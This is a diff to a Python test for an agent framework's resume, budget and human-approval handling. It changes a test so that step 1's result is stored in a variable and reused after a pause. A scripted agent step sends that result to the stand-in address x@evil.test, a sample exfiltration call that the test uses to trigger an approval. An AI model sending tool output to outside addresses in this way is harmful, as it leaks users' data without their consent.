@@ -93,12 +93,13 @@ def test_resumed_run_links_to_its_first_trace(env: tuple[RunStore, str, Path]) -
 
 
 def test_budgets_used_before_the_pause_still_count(env: tuple[RunStore, str, Path]) -> None:
-    """Budget usage of earlier steps is saved and restored: a resumed run cannot spend its budget again."""
+    """Budget usage and variables of earlier steps come back on resume: the budget is not spent again."""
     store, _, tmp = env
     policy = _policy(budgets=[{"name": "one-look", "match": {"tool": "look"}, "limit": {"calls": 1}}])
-    step2 = ("```py\nsend('x@evil.test', 'a')\ntry:\n    look(2)\nexcept BudgetExceeded as e:\n"
+    # Step 2 uses a variable of step 1: resuming re-runs step 1 (from its journal) to define it again.
+    step2 = ("```py\nsend('x@evil.test', str(first))\ntry:\n    look(2)\nexcept BudgetExceeded as e:\n"
              "    final_answer(str(e))\n```")
-    with _agent(store, tmp, ["```py\nlook(1)\n```", step2], policy=policy) as agent:
+    with _agent(store, tmp, ["```py\nfirst = look(1)\n```", step2], policy=policy) as agent:
         run_id = agent.run("go", principal="alice").run_id
     [pending] = store.list_approvals()
     store.answer_approval(pending.id, ApprovalAnswer("approve", "bob"), binding=pending.binding)
